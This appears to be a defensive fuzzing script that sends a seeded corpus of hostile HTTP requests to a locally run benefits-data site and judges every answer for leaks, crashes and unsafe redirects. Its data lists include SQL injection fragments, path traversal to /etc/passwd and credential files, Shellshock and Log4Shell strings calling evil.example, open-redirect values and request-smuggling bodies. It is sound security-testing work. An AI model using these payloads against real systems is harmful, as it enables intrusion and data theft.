"""Verb: hostile requests against the served site, and is every answer harmless?

    python scripts/hostile.py [--count 20000] [--seed 1] [--database build/benefits.db]

Starts the site on a free port of 127.0.0.1 and sends it a seeded corpus over raw sockets (a client library would tidy it up), in rounds
that each hold every kind, then lets schemathesis ask from /openapi.json. Every answer is judged: none of 500 and above, none missing
where something was asked in HTTP, none that leads to another site, sets a cookie, lacks a header of the site or has one of somebody else's,
is longer or shorter than it says, or shows a path, a traceback, markup from the request, or an error of SQL; SQL in a parameter never
finds more rows than plain words do. The server must live on with flat memory. Exit code 1 with the bytes of each fault otherwise.
"""

from __future__ import annotations

import sys

sys.path.insert(0, __file__.rpartition("/")[0])  # which PYTHONSAFEPATH leaves out

import argparse
import base64
import contextlib
import itertools
import json
import multiprocessing
import os
import random
import re
import select
import socket
import statistics
import subprocess
import tempfile
import threading
import time
import zlib
from collections import Counter, defaultdict
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass
from pathlib import Path
from urllib.parse import quote, quote_from_bytes, urlencode

import serve
from package import ROOT, built, run

ROUNDS = 8
FLAT = 1.10  # the most memory of the last quarter of rounds, as a multiple of the most of the second
CONNECTIONS = 4
PATIENCE = 20  # seconds until an answer counts as missing
SOON = 0.5  # seconds until what may be no whole request is cut
KINDS: dict[str, tuple[int, object]] = {}

HEADERS = {"content-security-policy", "x-content-type-options", "referrer-policy", "permissions-policy", "x-dns-prefetch-control", "cross-origin-opener-policy",
           "cross-origin-resource-policy", "access-control-allow-origin", "access-control-expose-headers"}  # fmt: skip
OTHERS = {"dataset-version", "data-through", "cache-control", "etag", "content-type", "content-length", "content-encoding", "content-disposition", "location", "link", "vary", "date", "accept-ranges", "retry-after",
          "connection", "transfer-encoding", "allow", "access-control-allow-methods", "access-control-allow-headers", "access-control-max-age"}  # fmt: skip
FIELD = re.compile(rb"([!#$%&'*+.^_`|~0-9A-Za-z-]+): ?([\t\x20-\x7e\x80-\xff]*)")
SHOWN = re.compile(
    rb'Traceback|site-packages|/usr/(?:local/)?lib/python|\.py", line|root:x?:0:0|from __future__ import|How Datasette presents|' + re.escape(str(ROOT).encode())
)
SQL_ERROR = re.compile(rb"sqlite|syntax error|near &#34;|near \\?\"|no such (?:column|table|function)|unrecognized token|unterminated string|malformed MATCH|fts5:|ambiguous column", re.I)
MARK = b"<zqx"


@dataclass(frozen=True)
class Case:
    """Bytes to send, and how many answers they may get. A `kept` case is one whole request, sent on a connection that has been used before and
    will be again; any other has its own, on which an honest request follows, or which is `cut` after its last byte. `most` is an address
    with at least as many rows as this one may have."""

    sent: bytes
    kept: bool = True
    answers: tuple[int, int] = (1, 1)
    cut: bool = False
    most: str = ""


@dataclass
class Answer:
    status: int
    headers: list[tuple[str, str]]
    body: bytes

    def header(self, name: str) -> str:
        return next((v for n, v in self.headers if n == name), "")


class Odd(Exception):
    """What came back is no answer in HTTP; the message says why."""


class Short(Odd):
    """The other side closed in the middle of an answer."""


def request(target: str | bytes, *headers: bytes, method: bytes = b"GET", body: bytes = b"", version: bytes = b"HTTP/1.1", host: bytes = b"Host: 127.0.0.1") -> bytes:
    target = target if isinstance(target, bytes) else target.encode()
    return b"\r\n".join([b" ".join([method, target, version]), *([host] if host else []), *headers, b"", body])


HONEST = request("/-/health", b"Connection: close")


# ---- the corpus -----------------------------------------------------------------------------------------------------


def kind(share: int):
    """Registers a generator of cases without end; `share` is its part of the corpus, in percent."""

    def register(function):
        KINDS[function.__name__.replace("_", " ")] = (share, function)
        return function

    return register


@dataclass
class Map:
    """The addresses of the site: each documented one with its parameters, and the ones that people open."""

    parameters: list[tuple[str, str]]
    tables: dict[str, list[str]]
    pages: list[str]


FRAGMENTS = [
    "'", '"', "')--", "' OR '1'='1", "' OR 1=1 --", '" OR ""="', "x' UNION SELECT sql FROM sqlite_master --", "x') UNION ALL SELECT name, name FROM sqlite_master --", "'; DROP TABLE coverage; --",
    "1; ATTACH DATABASE '/etc/passwd' AS x", "' || (SELECT group_concat(name) FROM sqlite_master) || '", "') OR EXISTS(SELECT 1) OR ('", "x' AND randomblob(100000000) --", "CAST(x AS INTEGER)",
    "load_extension('x')", "\\' OR 1=1 --", "' OR 1 GLOB 1 --", "x' LIMIT -1 --", "') OR ('' = '", "/* */ OR 1", "' OR rowid IS NOT NULL --", "zqx\x00' OR 1=1", "ʼ OR 1=1", "[sqlite_master]", "`x` OR 1",
    ":as_of", "?1", "@x", "$x", "x'; PRAGMA writable_schema = 1; --", "'+OR+1=1--", "%27 OR 1=1 --", "' OR 'x' LIKE '%", "WITH RECURSIVE r(i) AS (SELECT 1 UNION ALL SELECT i+1 FROM r) SELECT * FROM r",
]  # fmt: skip
LOOKUPS = ["", "__exact", "__contains", "__startswith", "__endswith", "__in", "__notin", "__arraycontains", "__glob", "__isnull", "__date"]


def address(path: str, query: dict) -> str:
    return f"{path}?{urlencode(query)}"


@kind(34)
def sql_in_values(r, site):
    """Each fragment in each documented parameter; tables also through every way to filter."""
    while True:
        for fragment in r.sample(FRAGMENTS, len(FRAGMENTS)):
            for path, name in r.sample(site.parameters, len(site.parameters)):
                given = name if name.startswith("_") or r.random() < 0.6 else name + r.choice(LOOKUPS)
                path_ = path.replace("{key}", "1")
                shape = {} if name == "_shape" or not path.endswith(".json") else {"_shape": "array"}
                # The honest words of a search are the fragment's own; a page mark goes on after any text; anything else is compared with a value that is nowhere.
                words = {} if name == "_next" else {given: " ".join(re.findall(r"\w+", fragment.replace("\0", " "))) if name in ("_search", "q") else "zzz-no-such-value"}
                most = "" if given.endswith(("__date", "__isnull")) or not path.endswith(".json") else address(path_, shape | words)
                yield Case(request(address(path_, shape | {given: fragment})), most=most)


@kind(7)
def sql_in_names(r, site):
    """Fragments where a name stands: columns, keys, pages of an answer, several parameters at once."""
    while True:
        fragment, table = r.choice(FRAGMENTS), r.choice(list(site.tables))
        column = r.choice(site.tables[table])
        code = quote(fragment, safe="")
        tilde = "".join(c if c.isalnum() and c.isascii() else f"~{ord(c):02X}" for c in fragment if ord(c) < 256)
        yield Case(request(r.choice([
            f"/benefits/{table}.json?{code}=1", f"/benefits/{table}.json?{code}__exact=1", f"/benefits/{table}.json?{column}__{code}=1", f"/benefits/{table}.json?_sort={code}",
            f"/benefits/{table}.json?_facet={code}", f"/benefits/{table}.json?_col={code}", f"/benefits/{table}.csv?_sort_desc={code}", f"/benefits/{table}?_search_{code}=x",
            f"/benefits/{table}.json?_next={code}", f"/benefits/{table}?_filter_column={code}&_filter_op=exact&_filter_value={code}", f"/benefits/{table}/{code}", f"/benefits/{table}/{tilde}.json",
            f"/benefits/{code}", f"/benefits/{code}.json", f"/on/{code}/coverage", f"/answers/coverage_on/as_of={code},jurisdiction={code}.json", f"/jurisdictions/{code}",
            f"/cases/{code}", f"/benefits/coverage_on.csv?as_of={code}&population={code}", f"/benefits/{table}.json?_search={code}&_searchmode=raw", f"/records/{code}/{code}",
        ])))  # fmt: skip


def climbs(r) -> str:
    up = r.choice(["../", "..%2f", "%2e%2e/", "%2e%2e%2f", "..%5c", "..\\", "%252e%252e%252f", "..%c0%af", "%c0%ae%c0%ae/", "..;/", ".%00./", "..%00/", "....//", "%uff0e%uff0e/", "..%ef%bc%8f", "~2E~2E/", "../;a/", "..%0d/", "%2e./"])
    return up * r.randint(1, 12)


@kind(6)
def traversal(r, site):
    ends = ["etc/passwd", "etc%2fpasswd", "metadata.yml", "scripts/serve.py", "data/coverage.csv", "build/benefits.db", ".git/config", "proc/self/environ", "plugins/guard.py", "etc/passwd%00.css", "windows/win.ini", ""]
    starts = ["/", "/static/", "/-/static/", "/benefits/", "/benefits/coverage/", "/static/site.css/", "/-/static/app.css/", "/on/2025-07-01/", "/cases/", "/docs/", "/-/static-plugins/guard.py/", "//", "/.", "/static"]
    while True:
        whole = ["file:///etc/passwd", "/C:/windows/win.ini", "/etc/passwd", "/proc/self/cwd/metadata.yml", f"/static/{ROOT}/metadata.yml", "/static//etc/passwd", "/static/%2fetc%2fpasswd", "/.git/HEAD", "/.env", "/metadata.yml"]
        yield Case(request(r.choice(whole) if r.random() < 0.1 else r.choice(starts) + climbs(r) + r.choice(ends)), kept=False)


@kind(8)
def each_byte(r, site):
    """Every byte, as it is and percent-encoded, at the edges and in the middle of a path, a name, a value and a header."""
    while True:
        for n in r.sample(range(256), 256):
            b, code = bytes([n]), b"%%%02x" % n
            for one in (b, code) if n not in b"\r\n" else (code,):
                for target in r.sample([b"/" + one, b"/benefits" + one, b"/benefits/cover" + one + b"age.json", b"/benefits/programs/" + one, b"/on/2025-07-01" + one + b"/coverage",
                                        b"/benefits/coverage.json?population=" + one, b"/benefits/coverage.json?" + one + b"=1", b"/benefits/coverage_on.json?as_of=2025-06-30" + one,
                                        b"/search?q=a" + one + b"b", b"/benefits/programs?_search=" + one, b"/answers/coverage_on/as_of=2025-07-01," + one + b".json"], 2):  # fmt: skip
                    yield Case(request(target), kept=False, answers=(1, 2))
            if n not in b"\r\n":
                yield Case(request("/benefits/coverage_on.json", b"X-" + r.choice([b, b""]) + b"y: a" + b + b"b"), kept=False)


@kind(7)
def unicode(r, site):
    odd = [b"\xc0\xaf", b"\xe0\x80\xaf", b"\xf0\x80\x80\xaf", b"\xed\xa0\x80", b"\xed\xb0\x80", b"\xf4\x90\x80\x80", b"\xff\xfe", b"\xef\xbb\xbf", b"\xc3", b"\xe2\x82", b"\xc2\x85", b"\xfc\x80\x80\x80\x80\xaf"]
    fair = ["٢٠٢٥-٠٦-٣٠", "２０２５-06-30", "2025‐06‐30", "۲۰۲۵", "ＩＬ", "İL", "ıl", "ß", "ﬁ", "A\u030a", "\u202eIL", "I\u200bL", "😀", "𝟚𝟘𝟚𝟝-06-30", "\u2028", "\ufffe", "\U0010ffff", "Ⅳ", "²", "½", "\u0000", "\x1b[31m", "e\u0301" * 40]
    while True:
        raw = r.choice(odd) if r.random() < 0.4 else r.choice(fair).encode()
        word = r.choice([raw, quote_from_bytes(raw).encode()])
        path, name = r.choice(site.parameters)
        yield Case(request(r.choice([
            b"/" + word, b"/benefits/" + word + b".json", path.replace("{key}", "1").encode() + b"?" + name.encode() + b"=" + word, b"/benefits/coverage_on?as_of=" + word, b"/eligibility?age=" + word,
            b"/benefits/coverage.json?_size=" + word, b"/on/" + word + b"/", b"/jurisdictions/" + word, b"/benefits/jurisdictions/" + word, b"/search?q=" + word, b"/benefits/coverage.json?age_min__gt=" + word,
        ])), kept=False)  # fmt: skip


@kind(10)
def odd_queries(r, site):
    """Parameters of Datasette and of ours in any mixture, too many, too long, too deep."""
    own = "_shape _size _sort _sort_desc _next _facet _facet_date _facet_array _facet_size _search _searchmode _col _nocol _label _labels _json _nl _stream _dl _header _extras _where _through _ttl _trace _timelimit _fts_table _fts_pk _show_sql _hide_sql _context _json_infinity _filter_column _filter_op _filter_value _sort_by_desc _nofacet _nocount _nosuggest sql _sql _method _debug".split()
    values = ["", "1", "0", "-1", "max", "on", "off", "array", "object", "objects", "arrays", "arrayfirst", "raw", "99999999999999999999", "-9223372036854775809", "1e309", "NaN", "0x10", "true", "null", "[]", "{}", "[1]", '{"a":[' * 20,
              "coverage", "population", "name", "a,b", "a" * 500, "%", "*", "(" * 200, "AND", "NEAR(", "^", "2025-06-30", "9999-12-31", "0000-00-00", "\n", "\r\nSet-Cookie: a=b", "//evil.example", "javascript:alert(1)"]  # fmt: skip
    while True:
        form = r.choice([".json", ".csv", "", ".db", ".atom", ".jsono", ".blob", "/"])
        path = r.choice([f"/benefits/{r.choice(list(site.tables))}{form}", *site.pages, r.choice(site.parameters)[0].replace("{key}", "1")])
        names = [r.choice(own) if r.random() < 0.7 else r.choice(site.parameters)[1] for _ in range(r.randint(1, 5))]
        query = "&".join(f"{quote(n)}={quote(r.choice(values), safe=r.choice(['', '/:{}[](),*']))}" for n in names)
        yield Case(request(f"{path}?" + r.choice([query] * 12 + [
            "&" * r.randint(1, 1900), "=" * 500, "?" * 500, ";".join(["a=b"] * 300), "&".join(f"a{i}" for i in range(400)), "&".join(["_facet=population"] * 40), "&".join(["population=adult"] * 90),
            "a[b][c]=1", "a=b#c", "_col=" + "&_col=".join(site.tables["coverage"]) * 3, "%", "%2", "%zz=%zz", "a=" + "%41" * 600, "q=" + "a+" * 900, "_search=" + "a*+" * 600, "_search=" + "%22" * 300,
            "population__in=" + ",".join(["a"] * 900), "population__in=" + "[" * 1500, "note__like=" + "%25_" * 300, "note__glob=" + "*a" * 500 + "&_searchmode=raw", "as_of=" + "9" * 1900,
        ])), kept="[" not in path)  # fmt: skip


@kind(5)
def redirects(r, site):
    away = ["//evil.example", "//evil.example/", "/\\evil.example", "\\\\evil.example", "/%5cevil.example/", "/%2fevil.example/", "///evil.example/%2e%2e", "https://evil.example/", "https:evil.example", "javascript:alert(1)",
            "/%09/evil.example/", "%09//evil.example", "/%0d%0aLocation:%20https://evil.example/", "/%0aSet-Cookie:a=b", "/evil.example%2f..", "//evil.example%00.127.0.0.1/", "/@evil.example/", "//a@evil.example/", "/;@evil.example/", "/.evil.example/"]  # fmt: skip
    while True:
        there = r.choice(away)
        yield Case(request(r.choice([
            there, there + "/", f"/benefits/coverage/?{there}", f"/benefits{there}/", f"/ask?as_of=2025-07-01&page={quote(there, safe='')}", f"/ask?page={there}", f"/ask?as_of={there}", f"/ask?jurisdiction={there}&page=coverage",
            f"/benefits/programs?_filter_column={quote(there, safe='')}&_filter_op=exact&_filter_value=x", f"/benefits/programs?_sort_by_desc=on&_sort=name&_next={there}", f"/on/2025-07-01{there}", f"/on/{there}", f"/-/{there}",
            f"/static/{there}", f"/answers/{there}/x.json", f"/jurisdictions/IL/?{there}", f"/on/2025-07-01/and{there}", f"/benefits/coverage/{there}/", f"/ask?compare={there}&as_of=2025-07-01&page=coverage",
        ]), r.choice([b"X-Forwarded-Host: evil.example", b"X-Original-URL: //evil.example", b"Forwarded: host=evil.example", b"Referer: https://evil.example/"])), kept=False)  # fmt: skip


@kind(3)
def markup(r, site):
    """Markup in everything that a page may repeat."""
    shapes = ['"><zqx onload=1>', "'><zqx>", "</title><zqx>", "</script><zqx>", "<zqx/src=//evil.example>", "{{7*7}}<zqx>", "--><zqx>", "<zqx\x0b>", "&#60;zqx><zqx>"]
    while True:
        word = quote(r.choice(shapes), safe="")
        path, name = r.choice(site.parameters)
        page = path.replace("{key}", "1").rpartition(".")[0] or path
        yield Case(request(r.choice([f"{page}?{name}={word}", f"{page}?{word}=1", f"/{word}", f"/search?q={word}", f"/ask?page={word}", f"/eligibility?age={word}", f"/benefits/{word}", f"{page}?_facet={word}", f"/cases/{word}", f"/on/{word}/"])))


@kind(3)
def methods(r, site):
    known = "POST PUT DELETE PATCH TRACE CONNECT OPTIONS HEAD PROPFIND MKCOL SEARCH PURGE LOCK REPORT SOURCE M-SEARCH QUERY get Get GETT G PRI * GET/ É".split() + ["X" * 5000, "G\tET"]
    while True:
        method, body = r.choice(known).encode(), r.choice([b"", b"sql=select+1", b'{"a": 1}', b"\x00" * 2000])
        length = [b"Content-Length: %d" % len(body)] if body or r.random() < 0.3 else []
        target = r.choice(["*", "/", "127.0.0.1:443"] + [r.choice(site.pages)] * 4)
        more = r.choice([[], [b"X-HTTP-Method-Override: DELETE"], [b"Content-Type: application/json"], [b"Access-Control-Request-Method: PUT", b"Origin: https://evil.example"]])
        yield Case(request(target, *length, *more, method=method, body=body), kept=False)


@kind(6)
def odd_headers(r, site):
    etag = b'W/"1.0.0-00000000000000000000"'
    whole = [b"Range: bytes=0-0", b"Range: bytes=-1", b"Range: bytes=9-1", b"Range: bytes=" + b",".join(b"%d-%d" % (i, i) for i in range(300)), b"Range: x=1", b"If-Range: junk", b"If-None-Match: *", b"If-None-Match: " + etag, b'If-None-Match: "', b"If-None-Match: \xff",
             b"If-None-Match: " + b",".join([etag] * 500), b"If-Modified-Since: junk", b"If-Match: *", b"Accept-Encoding: gzip", b"Accept-Encoding: gzip;q=0", b"Accept-Encoding: *", b"Accept-Encoding: br, deflate, zstd", b"Accept-Encoding: " + b"gzip," * 900, b"Accept-Encoding: \xff", b"Accept: \xff",
             b"Accept: " + b"a/b," * 900, b"Accept-Language: ' OR 1=1", b"Cookie: ds_actor=junk; ds_messages=\x80", b"Cookie: " + b"a=b; " * 900, b"Authorization: Bearer \xff", b"X-Forwarded-For: 127.0.0.1", b"X-Forwarded-Proto: javascript", b"X-Forwarded-Host: evil.example", b"X-Original-URL: /-/threads", b"X-Rewrite-URL: /-/plugins",
             b"Expect: 100-continue", b"Expect: junk", b"Upgrade: h2c", b"Connection: Upgrade, HTTP2-Settings", b"TE: trailers", b"Trailer: Host", b"Connection: host", b"Connection: content-length, close", b"Max-Forwards: 0", b"Via: 1.1 evil", b"Origin: null", b"Origin: https://evil.example", b"Sec-Fetch-Site: cross-site",
             b"User-Agent: () { :;}; echo zqx", b"User-Agent: ${jndi:ldap://evil.example/a}", b"Content-Type: multipart/form-data; boundary=" + b"a" * 3000, b"Content-Encoding: gzip", b"Content-Length: 0", b"Date: junk", b"Transfer-Encoding: identity", b"Proxy: http://evil.example", b"A: ", b": a", b" a: b", b"a : b", b"a", b"a:b\x0bc", b"a: b\x00c", b"a: b\rc", b"\x00: b"]  # fmt: skip
    hosts = [b"Host: evil.example", b"Host: 127.0.0.1\r\nHost: evil.example", b"", b"Host: ", b"Host: evil.example:99999", b"Host: a b", b"Host: \xff", b"Host: <zqx>", b"Host: 127.0.0.1\x00", b"Host : a", b"hOsT: a", b"Host: [::1]:80", b"Host: a/../b", b"Host: " + b"a" * 9000]
    while True:
        host = r.choice(hosts) if r.random() < 0.3 else b"Host: 127.0.0.1"
        version = r.choice([b"HTTP/1.1"] * 12 + [b"HTTP/1.0", b"HTTP/1.2", b"HTTP/2.0", b"HTTP/9.9", b"http/1.1", b"HTTP/1.1 ", b"HTTP/01.1"])
        yield Case(request(r.choice(site.pages + [r.choice(site.parameters)[0].replace("{key}", "1")]), *r.sample(whole, r.randint(1, 4)), version=version, host=host), kept=False)


@kind(4)
def smuggling(r, site):
    """A second request hidden in the first: it must be answered as it is counted, or not at all."""
    inner = request("/benefits/coverage_on.json?as_of=junk")
    lengths = [b"Content-Length: %d" % len(inner), b"Content-Length:\t%d" % len(inner), b"content-length: 0%d" % len(inner)]
    bad = [b"Content-Length: 5\r\nContent-Length: 6", b"Content-Length: +5", b"Content-Length: -1", b"Content-Length: 5, 6", b"Content-Length: 0x5", b"Content-Length: 99999999999999999999999", b"Content-Length: \xd9\xa2", b"Content-Length: 5 5", b"Content-Length : 5", b"Content-Length: ",
           b"Transfer-Encoding: chunked\r\nContent-Length: 5", b"Content-Length: 5\r\nTransfer-Encoding: chunked", b"Transfer-Encoding: xchunked", b"Transfer-Encoding: chunked, identity", b"Transfer-Encoding : chunked", b"Transfer-Encoding: chunked\r\nTransfer-Encoding: gzip", b"Transfer-Encoding:\x0bchunked", b"X: a\r\n Transfer-Encoding: chunked", b"X: a\nTransfer-Encoding: chunked", b"Transfer-Encoding\x00: chunked", b"Transfer-Encoding: \"chunked\""]  # fmt: skip
    chunks = [b"0\r\n\r\n", b"5\r\nhello\r\n0\r\n\r\n", b"5;a=b\r\nhello\r\n0\r\nX: y\r\n\r\n", b"%x\r\n%b\r\n0\r\n\r\n" % (len(inner), inner)]
    wrong = [b"z\r\nhello\r\n0\r\n\r\n", b"-5\r\nhello\r\n0\r\n\r\n", b"5\r\nhelloX\r\n0\r\n\r\n", b"ffffffffffffffffff\r\na", b"0x5\r\nhello\r\n0\r\n\r\n", b"5 \r\nhello\r\n0\r\n\r\n", b"5\nhello\n0\n\n", b"\r\n\r\n", b"5;" + b"a" * 20_000 + b"\r\nhello\r\n0\r\n\r\n", b"0\r\n" + b"X: y\r\n" * 2_000 + b"\r\n", b"5\r\nhello\r\n0\r\nContent-Length: 5\r\n\r\n"]
    while True:
        method, target = r.choice([b"GET", b"POST", b"OPTIONS"]), r.choice(site.pages)
        yield r.choice([
            lambda: Case(request(target, r.choice(lengths), method=method, body=inner), kept=False),
            lambda: Case(request(target, r.choice(bad), method=method, body=inner), kept=False, answers=(1, 2)),
            lambda: Case(request(target, b"Transfer-Encoding: chunked", method=method, body=r.choice(chunks)), kept=False),
            lambda: Case(request(target, b"Transfer-Encoding: chunked", method=method, body=r.choice(wrong)), kept=False, answers=(1, 2)),
            lambda: Case(request(target, b"Content-Length: 1000000", method=method, body=b"a" * r.randint(0, 5000)), kept=False, cut=True, answers=(0, 1)),
        ])()  # fmt: skip


@kind(3)
def pipelines(r, site):
    while True:
        count = r.randint(2, 12)
        whole = b"".join(request(r.choice(site.pages)) for _ in range(count))
        yield r.choice([
            lambda: Case(whole, kept=False, answers=(count, count)),
            lambda: Case(whole + b"GARBAGE\r\n\r\n", kept=False, answers=(1, count + 1)),
            lambda: Case(b"\r\n\r\n" + request(r.choice(site.pages)), kept=False),
            lambda: Case(request(r.choice(site.pages), b"Connection: close") + whole, kept=False),
            lambda: Case(request(r.choice(site.pages), version=b"HTTP/1.0") + whole, kept=False),
            lambda: Case(request(r.choice(site.pages), b"Upgrade: websocket", b"Connection: Upgrade", b"Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==", b"Sec-WebSocket-Version: 13"), kept=False),
        ])()  # fmt: skip


@kind(2)
def not_http(r, site):
    """No request at all: an answer is not owed."""
    fixed = [b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + b"\xaa" * 500, b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + b"\x00\x00\x00\x04\x00\x00\x00\x00\x00", b"GET /\r\n\r\n", b"GET / \r\n\r\n", b"\x05\x01\x00", b"SSH-2.0-x\r\n", b"\r\n" * 2000, b"\x00" * 5000, b"", b"GET", b"HELO a\r\n",
             b"GET / HTTP/1.1\nHost: a\n\n", b"GET  / HTTP/1.1\r\nHost: a\r\n\r\n", b"GET\t/\tHTTP/1.1\r\nHost: a\r\n\r\n", b"GET / HTTP/1.1\rHost: a\r\r", b" GET / HTTP/1.1\r\nHost: a\r\n\r\n", b"GET /a b HTTP/1.1\r\nHost: a\r\n\r\n", b"GET / HTTP/1.1\r\n\r\n\r\n", b"*1\r\n$4\r\nPING\r\n", b"HTTP/1.1 200 OK\r\n\r\n"]  # fmt: skip
    while True:
        yield Case(r.choice(fixed) if r.random() < 0.6 else r.randbytes(r.randint(1, 3000)), kept=False, answers=(0, 3), cut=r.random() < 0.5)


@kind(1)
def huge(r, site):
    while True:
        for case in r.sample([
            Case(request(b"/" + b"a" * 1_000_000), kept=False), Case(request(b"/search?q=" + b"a" * 1_000_000), kept=False), Case(request("/", *(b"X-%d: a" % i for i in range(10_000))), kept=False),
            Case(request("/", b"X: " + b"a" * 65_536), kept=False), Case(request("/", b"A" * 65_536 + b": a"), kept=False), Case(request("/", b"Cookie: " + b"a=b;" * 250_000), kept=False),
            Case(request("/", b"Content-Length: 3000000", body=b"a" * 3_000_000), kept=False, answers=(1, 2)), Case(request("/", b"Content-Length: 3000000", method=b"POST", body=b"a" * 3_000_000), kept=False, answers=(1, 2)),
            Case(request("/", host=b"Host: " + b"a" * 500_000), kept=False), Case(request("/", version=b"HTTP/1.1" + b"1" * 100_000), kept=False), Case(request("/", b"Transfer-Encoding: chunked", body=b"1\r\na\r\n" * 100_000 + b"0\r\n\r\n"), kept=False, answers=(1, 2)),
            Case(b"".join(request("/-/nothing") for _ in range(300)), kept=False, answers=(300, 300)),
        ], 12):  # fmt: skip
            yield case


@kind(3)
def broken_off(r, site):
    """Cut after any byte. uvicorn closes when the other side does, so an answer is owed to nobody."""
    while True:
        whole = request(r.choice(site.pages), b"Content-Length: 10", body=b"0123456789") if r.random() < 0.3 else request(r.choice(site.pages))
        yield Case(whole[: r.randint(1, len(whole))], kept=False, answers=(0, 1), cut=True)


@kind(5)
def mutated(r, site):
    """An honest request with bytes changed, removed, repeated or put in."""
    while True:
        sent = bytearray(request(r.choice(site.pages), b"Accept: */*", b"Accept-Encoding: gzip", b'If-None-Match: "x"', b"Cookie: a=b", b"User-Agent: x"))
        for _ in range(r.randint(1, 6)):
            at = r.randrange(len(sent))
            change = r.randrange(4)
            sent[at : at + (change != 3)] = [bytes([r.randrange(256)]), b"", bytes(sent[at : at + 9]), r.randbytes(r.randint(1, 4))][change]
        yield Case(bytes(sent), kept=False, answers=(0, 3))


# ---- the client -----------------------------------------------------------------------------------------------------


class Connection:
    def __init__(self, port: int):
        self.socket = socket.create_connection(("127.0.0.1", port), timeout=PATIENCE)
        self.socket.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.got, self.ended, self.half = b"", False, False

    def close(self) -> None:
        self.socket.close()

    def receive(self) -> None:
        try:
            part = self.socket.recv(1 << 18)
        except ConnectionError:
            part = b""
        self.ended = not part
        self.got += part

    def send(self, data: bytes) -> None:
        """Reads while it sends, or both sides might wait for each other; a server may stop listening when it has heard enough."""
        view = memoryview(data)
        self.socket.setblocking(False)
        try:
            while view and not self.ended:
                readable, writable, _ = select.select([self.socket], [self.socket], [], PATIENCE)
                if readable:
                    self.receive()
                elif writable:
                    view = view[self.socket.send(view[: 1 << 16]) :]
                else:
                    raise TimeoutError
        except ConnectionError:
            pass
        finally:
            self.socket.settimeout(PATIENCE)

    def silent(self) -> bool:
        return not self.got and not select.select([self.socket], [], [], 0)[0]

    def cut(self) -> None:
        self.half = True
        with contextlib.suppress(OSError):  # closed by the other side already
            self.socket.shutdown(socket.SHUT_WR)

    def to_the_end(self, patience: float) -> None:
        """Reads until the other side closes. What may be no whole request is cut when nothing has come for `patience` seconds."""
        while not self.ended:
            if patience < PATIENCE and not select.select([self.socket], [], [], patience)[0]:
                self.cut()
                patience = PATIENCE
            self.receive()

    def answer(self, head: bool = False) -> Answer | None:
        """The next answer, None when the other side closed instead."""
        while b"\r\n\r\n" not in self.got and not self.ended:
            self.receive()
        if not self.got:
            return None
        top, gap, self.got = self.got.partition(b"\r\n\r\n")
        if not gap:
            raise Odd(f"is no answer: {top[:200]!r}")
        first, *lines = top.split(b"\r\n")
        if not (match := re.fullmatch(rb"HTTP/1\.[01] ([1-5][0-9][0-9]) [ -~]*", first)):
            raise Odd(f"begins with {first[:200]!r}")
        fields = [FIELD.fullmatch(line) for line in lines]
        if not all(fields):
            raise Odd(f"has the header line {lines[fields.index(None)][:200]!r}")
        found = Answer(int(match[1]), [(f[1].decode().lower(), f[2].decode("latin-1")) for f in fields], b"")
        if found.status == 100:
            return self.answer(head)
        if head or found.status in (204, 304):
            if found.header("connection") == "close":
                self.got = b""  # of no length that was promised, and nobody reads it
            return found
        if found.header("transfer-encoding") == "chunked":
            while size := int(self.until(b"\r\n"), 16):
                found.body += self.exactly(size)
                if self.exactly(2) != b"\r\n":
                    raise Odd("has a chunk that does not end where it says")
            if self.until(b"\r\n"):
                raise Odd("has something after its last chunk")
        else:
            found.body = self.exactly(int(found.header("content-length")))
        return found

    def exactly(self, size: int) -> bytes:
        parts = [self.got[:size]]
        self.got, missing = self.got[size:], size - len(parts[0])
        while missing:
            self.receive()
            if self.ended:
                raise Short(f"ends {missing:,} bytes early")
            parts.append(self.got[:missing])
            self.got, missing = self.got[missing:], missing - len(parts[-1])
        return b"".join(parts)

    def until(self, mark: bytes) -> bytes:
        while mark not in self.got:
            self.receive()
            if self.ended:
                raise Short("ends in the middle of a chunk")
        found, _, self.got = self.got.partition(mark)
        return found


# ---- the judge ------------------------------------------------------------------------------------------------------


def faults_of(answer: Answer, sent: bytes, usual: dict) -> list[str]:
    """What is wrong with an answer, whatever was asked."""
    names = [n for n, _ in answer.headers]
    found = [f"status {answer.status}"] if answer.status >= 500 and answer.status != 503 else []  # 503: too many large ones, told as that
    found += [f"header {n} is repeated" for n, count in Counter(names).items() if count > 1]
    found += [f"header {n} is none of the site's" for n in set(names) - HEADERS - OTHERS]
    found += [f"header {n} is {answer.header(n)!r}" for n in HEADERS if answer.header(n) != usual[n]]
    if answer.header("transfer-encoding") and b" HTTP/1.0\r\n" in sent.partition(b"\n")[0] + b"\n":
        found.append("is chunked, which HTTP/1.0 does not know")
    if leads_away(answer.header("location")):
        found.append(f"leads to {answer.header('location')!r}")
    body = answer.body
    if answer.header("content-encoding") == "gzip":
        try:
            body = zlib.decompress(body, 31)
        except zlib.error as e:
            found.append(f"is not gzip: {e}")
    if shown := SHOWN.search(body + repr(answer.headers).encode()):
        found.append(f"shows {shown[0]!r}")
    if answer.status >= 400 and (shown := SQL_ERROR.search(body)) and shown[0].lower() not in sent.lower() and b"sqlite" not in sent.lower():
        found.append(f"shows an error of SQL: {body[max(shown.start() - 60, 0) : shown.end() + 60]!r}")
    if answer.header("content-type").startswith("text/html") and MARK in body:
        found.append("repeats markup")
    return found


def leads_away(location: str) -> bool:
    """As a browser reads it: control characters are nothing, a backslash is a slash."""
    plain = re.sub(r"[\t\r\n]", "", location.strip("".join(map(chr, range(33))))).replace("\\", "/")
    return plain.startswith("//") or bool(re.match(r"[^/?#]*:", plain))


def rows(answer: Answer) -> int:
    """How many rows an answer in JSON has; a refusal has none."""
    if answer.status >= 400:
        return 0
    said = json.loads(answer.body)
    said = said.get("rows", said) if isinstance(said, dict) else said
    return len(said)


class Attack:
    """The corpus sent by several connections at once, and what came of it."""

    def __init__(self, port: int, usual: dict):
        self.port, self.usual, self.lock, self.local = port, usual, threading.Lock(), threading.local()
        self.sent, self.statuses, self.slowest, self.spent, self.faults, self.most = Counter(), defaultdict(Counter), Counter(), Counter(), [], {}

    def one(self, job: tuple[str, Case]) -> None:
        name, case = job
        started = time.perf_counter()
        try:
            answers, problems = self.kept(case) if case.kept else self.alone(case)
        except Odd as e:
            answers, problems = [], [f"the answer {e}"]
        except TimeoutError:
            answers, problems = [], [f"nothing came within {PATIENCE} seconds"]
